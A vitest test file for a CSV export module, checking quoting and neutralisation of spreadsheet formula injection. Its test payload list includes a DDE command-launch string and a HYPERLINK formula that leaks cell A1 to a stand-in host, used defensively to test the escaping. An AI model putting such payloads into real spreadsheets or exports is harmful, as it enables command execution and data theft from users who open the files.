import { describe, expect, it } from 'vitest';
import { agreementRows, columns, type RowWords } from '../../../shared/register/agreement-rows.ts';
import { withholdWords } from '../../../shared/register/withhold.ts';
import { csvOf } from '../../../shared/report/csv.ts';
import { scriptRegister } from '../../support/script-register.ts';
import type { RegisteredReview } from '../../../shared/register/register.ts';

/** What RFC 4180 says is in a file, without the mark in front. */
function parse(csv: string): string[][] {
	const rows: string[][] = [[]];
	for (let at = 1; at < csv.length;) {
		expect(csv[at], `at ${at} a cell begins`).toBe('"');
		let cell = '';
		for (at++; csv[at] !== '"' || csv[at + 1] === '"'; at++) {
			if (csv[at] === '"') at++;
			cell += csv[at];
		}
		rows.at(-1)!.push(cell);
		const end = csv.slice(at + 1, at + 3);
		if (end === '\r\n') rows.push([]);
		else expect(end[0]).toBe(',');
		at += end === '\r\n' ? 3 : 2;
	}
	expect(rows.pop()).toEqual([]);
	return rows;
}

const signs = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
const payloads = [
	'1+1',
	"cmd|' /C calc'!A0",
	'HYPERLINK("http://x.example/?"&A1;"look")',
	' SUM(A1:A9)',
];
const prefixes = signs.flatMap((sign) => payloads.map((payload) => sign + payload));
const places = [
	'',
	' ',
	'\u00a0',
	'Sales,',
	'Sales;',
	'Sales\t',
	'Sales"',
	'Sales|',
	'Sales, ',
	'Sales\n',
	'Sales\r\n',
	'Sales\r',
];

describe('a cell', () => {
	it('R23 is what was written, with quotes, delimiters and lines of its own', () => {
		const rows = [
			['Number', 'Agreement'],
			['a1', 'Sales says "yes", Operations; says\nno'],
			['a2', ''],
		];
		const csv = csvOf(rows);
		expect(csv.startsWith('\uFEFF"Number","Agreement"\r\n"a1",')).toBe(true);
		expect(csv.endsWith('\r\n')).toBe(true);
		expect(parse(csv)).toEqual(rows);
	});

	it('R24 there are 40 prefixes to try', () => expect(new Set(prefixes).size).toBe(40));

	it.each(places)('R24 is never a formula, also not behind %j', (place) => {
		for (const prefix of prefixes) {
			const [[cell = '']] = parse(csvOf([[place + prefix]])) as [[string]];
			// However a program cuts it, and whatever blanks it takes away, no piece begins as a formula does.
			for (const piece of [cell, ...cell.split(/[,;|\t\n\r"]/)])
				expect([place + prefix, piece.replace(/^\s+/, '')]).not.toEqual([
					place + prefix,
					expect.stringMatching(/^[=+\-@＝＋－＠]/),
				]);
			expect(cell).not.toMatch(/^[\t\r\n]/);
		}
	});

	it('R24 nothing else of it is changed', () => {
		for (const text of [
			'10-12 days',
			'a@b.example',
			'x = y',
			'5 + 5',
			'Sales - Operations',
			"'t is",
		])
			expect(parse(csvOf([[text]]))).toEqual([[text]]);
		expect(parse(csvOf([['=1+1', '-5 %']]))).toEqual([["'=1+1", "'-5 %"]]);
	});
});

const words: RowWords = {
	columns: Object.fromEntries(columns.map((column) => [column, column])) as RowWords['columns'],
	standing: ({ is }) => is,
	withheld: 'withheld',
	list: (names) => names.join('; '),
	number: (value) => String(value).replace('.', ','),
};

it('R23 each agreement is a row, with its owners by side, days and objectives by title', () => {
	const register = scriptRegister();
	const [head, ...rows] = agreementRows(register, words);
	expect(head).toEqual([...columns]);
	expect(rows).toHaveLength(register.agreements.length);
	const [first] = register.agreements;
	const row = Object.fromEntries(columns.map((column, index) => [column, rows[0]![index]!]));
	const nameOf = (side: string) =>
		first!.text.owners
			.map((id) => register.people[id]!)
			.filter((one) => one.side === side)
			.map(({ name }) => name)
			.join('; ');
	expect(row).toMatchObject({
		label: 'a1',
		statement: first!.text.statement,
		standing: 'open',
		sales: nameOf('sales'),
		operations: nameOf('operations'),
		reviewOn: first!.text.reviewOn,
		indicator: first!.text.measure.indicator,
	});
	expect(row['sales']).not.toBe('');
	expect(row['sealedOn']).toMatch(/^\d{4}-\d\d-\d\d$/);
	const strengthened = Object.entries(first!.text.effects).filter(
		([, { effect }]) => effect === 'strengthens',
	);
	expect(strengthened.length).toBeGreaterThan(0);
	expect(row['strengthens']).toBe(strengthened.map(([id]) => first!.objectives[id]).join('; '));
});

it('R23 words that are withheld are told as withheld', () => {
	const register = scriptRegister();
	withholdWords(register, register.agreements[0]!.id);
	const [, row] = agreementRows(register, words);
	expect(row?.[1]).toBe('withheld');
	expect(row?.[columns.indexOf('firstStep')]).toBe('');
});

it('MV5, R23 the value that was measured last stands beside its target', () => {
	const register = scriptRegister();
	const [first, second] = register.agreements;
	const review = (at: number, measuredValue?: number): RegisteredReview => ({
		...{ agreement: first!.id, workshop: `w${at}`, at, seen: {}, outcome: null, ratings: {} },
		texts: { measured: '', evidence: '', again: '', wentWell: '', clashed: '', next: '' },
		...{ decision: null, ...(measuredValue !== undefined && { measuredValue }) },
	});
	register.reviews = [review(1, 9), review(2, 5.5), review(3)];
	const at = columns.indexOf('measuredValue');
	const cells = Object.fromEntries(
		agreementRows(register, words).map((row) => [row[0], row[at]] as const),
	);
	expect(cells).toMatchObject({ a1: '5,5', [`a${second!.number}`]: '' });
});
